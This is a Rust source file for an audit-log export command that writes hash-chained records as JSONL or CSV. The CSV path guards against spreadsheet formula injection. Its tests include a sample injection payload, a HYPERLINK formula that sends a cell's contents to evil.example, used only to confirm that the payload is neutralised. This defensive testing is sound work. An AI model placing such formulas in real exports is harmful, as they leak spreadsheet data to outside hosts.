//! `audit export`: the records for another place.

use std::io::Write;
use std::path::{Path, PathBuf};

use clap::{Args, ValueEnum};
use ledger::Record;
use serde::Deserialize;
use serde_json::Value;
use serde_json::value::RawValue;

use super::super::{Context, Done, Ended};
use super::moment;
use crate::hosts::hygiene;
use crate::store::now_ms;

/// Write the records out, one a line
#[derive(Debug, Args)]
pub(crate) struct Export {
    /// From the first record of this moment on: 2026-11-26T03:00:00Z, a date (in UTC), or a span back such as 24h or 7d
    #[arg(long, value_name = "T")]
    since: Option<String>,
    /// Up to the last record before this moment
    #[arg(long, value_name = "T")]
    until: Option<String>,
    /// jsonl: as they are stored, for `audit verify --file`; csv: for a spreadsheet
    #[arg(long, value_enum, default_value_t = Format::Jsonl)]
    format: Format,
    /// Write a file of mode 0600 instead of stdout
    #[arg(long, value_name = "FILE")]
    out: Option<PathBuf>,
    /// Put it in the place of a file that is there
    #[arg(long, requires = "out")]
    force: bool,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
enum Format {
    /// One JSON object a line, as stored
    Jsonl,
    /// seq, time, event, proposal, host, person, data
    Csv,
}

impl Export {
    pub(super) fn run(&self, context: &Context) -> Done {
        let now = now_ms();
        let moment = |name: &str, text: &Option<String>| {
            let parsed = text.as_deref().map(|text| moment::parse(text, now)).transpose();
            parsed.map_err(|e| Ended::usage(format!("--{name}: {e}")))
        };
        let (since, until) = (moment("since", &self.since)?, moment("until", &self.until)?);
        if let (Some(since), Some(until)) = (since, until)
            && since >= until
        {
            return Err(Ended::usage("--since is not before --until: there is nothing between them"));
        }
        let all = context.app()?.store()?.audit_tail(usize::MAX)?;
        let lines = between(&all, since, until);
        let text = match self.format {
            Format::Jsonl => lines.iter().flat_map(|line| [line.as_str(), "\n"]).collect(),
            Format::Csv => csv(lines),
        };
        match &self.out {
            Some(file) => write(file, text.as_bytes(), self.force)?,
            None => to_stdout(text.as_bytes())?,
        }
        said(lines, self.out.as_deref())
    }
}

fn time(line: &str) -> Option<i64> {
    serde_json::from_str::<Value>(line).ok()?["time"].as_i64()
}

/// The records from the first one at or after `since` to the last one before `until`. None is left out between them, also where
/// the clock went back: what is exported is one piece of the chain.
fn between(lines: &[String], since: Option<i64>, until: Option<i64>) -> &[String] {
    let from =
        since.map_or(Some(0), |since| lines.iter().position(|line| time(line).is_some_and(|t| t >= since)));
    let to = until.map_or(Some(lines.len()), |until| {
        lines.iter().rposition(|line| time(line).is_some_and(|t| t < until)).map(|last| last + 1)
    });
    match (from, to) {
        (Some(from), Some(to)) => lines.get(from..to).unwrap_or_default(),
        _ => &[],
    }
}

/// Tells on stderr how many there are and the head, which belongs elsewhere.
fn said(lines: &[String], out: Option<&Path>) -> Done {
    let place = out.map_or_else(|| "stdout".to_owned(), |path| path.display().to_string());
    let Some(last) = lines.last() else {
        eprintln!("mcp-linux-infra: 0 records to {place}: none is of that time");
        return Ok(());
    };
    let checked = crate::store::verify_files(lines);
    if let Some(problem) = checked.problem {
        return Err(Ended::failed(format!(
            "{} record(s) to {place}, as they are stored, but the chain is BROKEN at {problem}: see `mcp-linux-infra audit verify`",
            lines.len()
        )));
    }
    let seq = Record::read(last.as_bytes()).map_or(0, |record| record.seq);
    eprintln!(
        "mcp-linux-infra: {} record(s) to {place}; head: record {seq}, hash {}. Keep the head elsewhere: it shows later that nothing \
         up to it was changed or cut off",
        lines.len(),
        checked.head
    );
    Ok(())
}

fn to_stdout(bytes: &[u8]) -> Done {
    match std::io::stdout().lock().write_all(bytes) {
        Err(e) if e.kind() != std::io::ErrorKind::BrokenPipe => Err(e.into()),
        _ => Ok(()),
    }
}

/// Whole or not at all: a file beside it takes its name at the end.
fn write(path: &Path, bytes: &[u8], force: bool) -> Done {
    let failed = |e: std::io::Error| match e.kind() {
        std::io::ErrorKind::AlreadyExists => Ended::failed(format!(
            "{} is there already and was left as it is: name another file, or give --force to replace it",
            path.display()
        )),
        _ => Ended::failed(format!(
            "{}: {e}: nothing was exported; name a file in a folder that you may write",
            path.display()
        )),
    };
    let folder = path.parent().filter(|p| !p.as_os_str().is_empty()).unwrap_or(Path::new("."));
    // Made with mode 0600.
    let mut file = tempfile::NamedTempFile::new_in(folder).map_err(failed)?;
    file.write_all(bytes).and_then(|()| file.as_file().sync_all()).map_err(failed)?;
    let placed = if force { file.persist(path) } else { file.persist_noclobber(path) };
    placed.map(drop).map_err(|e| failed(e.error))
}

/// A record with its data as it is stored: what is invisible is escaped there.
#[derive(Deserialize)]
struct Stored<'a> {
    #[serde(borrow)]
    data: &'a RawValue,
}

/// RFC 4180, every field in quotes.
fn csv(lines: &[String]) -> String {
    let mut text = row(&["seq", "time", "event", "proposal", "host", "person", "data"].map(str::to_owned));
    for line in lines {
        text.push_str(&row(&fields(line)));
    }
    text
}

fn fields(line: &str) -> [String; 7] {
    let Ok(record) = serde_json::from_str::<Value>(line) else {
        return ["", "", "unreadable", "", "", "", line].map(str::to_owned);
    };
    let data = serde_json::from_str::<Stored<'_>>(line).map_or("", |stored| stored.data.get());
    let of = &record["data"];
    let first =
        |places: [&Value; 5]| places.into_iter().find_map(Value::as_str).unwrap_or_default().to_owned();
    let none = &Value::Null;
    [
        record["seq"].to_string(),
        record["time"].as_i64().map(rfc3339).unwrap_or_default(),
        first([&record["event"], none, none, none, none]),
        first([&of["proposal"], none, none, none, none]),
        first([&of["host"], &of["asked"]["host"], none, none, none]),
        first([&of["person"], &of["signer"], &of["by"], &of["asked"]["proposed_by"], &of["caller"]]),
        data.to_owned(),
    ]
}

/// To the millisecond, in UTC.
fn rfc3339(ms: i64) -> String {
    let shown = crate::app::utc(ms);
    shown
        .strip_suffix(" UTC")
        .map_or_else(String::new, |t| format!("{}.{:03}Z", t.replacen(' ', "T", 1), ms.rem_euclid(1000)))
}

fn row(fields: &[String; 7]) -> String {
    let quoted = fields.each_ref().map(|field| format!("\"{}\"", harmless(field).replace('"', "\"\"")));
    quoted.join(",") + "\r\n"
}

/// A spreadsheet takes a field that begins like this for a formula, also behind blanks; an apostrophe makes it text.
fn harmless(field: &str) -> String {
    let shown = hygiene::escaped(field.as_bytes()).replace(['\n', '\t'], " ");
    if shown.trim_start().starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']) {
        format!("'{shown}")
    } else {
        shown
    }
}

#[cfg(test)]
mod tests {
    use ledger::{Head, seal};
    use serde_json::json;

    use super::*;

    fn chain(records: &[(i64, Value)]) -> Vec<String> {
        let mut head = Head::genesis();
        let mut add = |(time, data): &(i64, Value)| {
            let (line, next) = seal(&head, *time, "approved", data);
            head = next;
            line
        };
        records.iter().map(&mut add).collect()
    }

    #[test]
    fn a_piece_of_the_chain_has_no_holes() {
        // The clock went back after the second one.
        let lines = chain(&[100, 300, 200, 400, 500].map(|time| (time, json!({}))));
        let piece = |since, until| {
            let piece = between(&lines, since, until);
            assert!(crate::store::verify_files(piece).ok);
            piece.iter().map(|line| Record::read(line.as_bytes()).unwrap().seq).collect::<Vec<_>>()
        };
        assert_eq!(piece(None, None), [1, 2, 3, 4, 5]);
        assert_eq!(piece(Some(300), None), [2, 3, 4, 5]);
        assert_eq!(piece(None, Some(300)), [1, 2, 3]);
        assert_eq!(piece(Some(250), Some(450)), [2, 3, 4]);
        for (since, until) in [(Some(501), None), (None, Some(100)), (Some(301), Some(310))] {
            assert!(piece(since, until).is_empty(), "{since:?} {until:?}");
        }
    }

    #[test]
    fn nothing_in_a_spreadsheet_acts() {
        let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
        for field in [evil, "+1", "-1", "@SUM(1)", "\t=1", "\r=1", " =1", "\n\t @x", "\u{200b}=1", "＝1"] {
            let lines = chain(&[(0, json!({ "proposal": field, "host": field, "signer": field }))]);
            let text = csv(&lines);
            let record = text.lines().nth(1).unwrap();
            assert_eq!(text.lines().count(), 2, "{text:?}");
            for cell in record.split("\",\"").skip(3).take(3) {
                let shown = cell.trim_start_matches('"');
                assert!(shown.starts_with(['\'', '\\']), "{field:?}: {cell:?}");
            }
            assert!(!text.contains(['\t', '\u{200b}']), "{text:?}");
        }
    }

    #[test]
    fn a_row_says_what_a_record_says() {
        let lines = chain(&[
            (951_827_696_789, json!({ "proposal": "pr_1", "signer": "a\"b, c" })),
            (0, json!({ "proposal": "pr_2", "asked": { "host": "web01", "proposed_by": "bot" } })),
        ]);
        assert_eq!(
            csv(&lines),
            "\"seq\",\"time\",\"event\",\"proposal\",\"host\",\"person\",\"data\"\r\n\
             \"1\",\"2000-02-29T12:34:56.789Z\",\"approved\",\"pr_1\",\"\",\"a\"\"b, c\",\
             \"{\"\"proposal\"\":\"\"pr_1\"\",\"\"signer\"\":\"\"a\\\"\"b, c\"\"}\"\r\n\
             \"2\",\"1970-01-01T00:00:00.000Z\",\"approved\",\"pr_2\",\"web01\",\"bot\",\
             \"{\"\"asked\"\":{\"\"host\"\":\"\"web01\"\",\"\"proposed_by\"\":\"\"bot\"\"},\"\"proposal\"\":\"\"pr_2\"\"}\"\r\n"
        );
    }
}
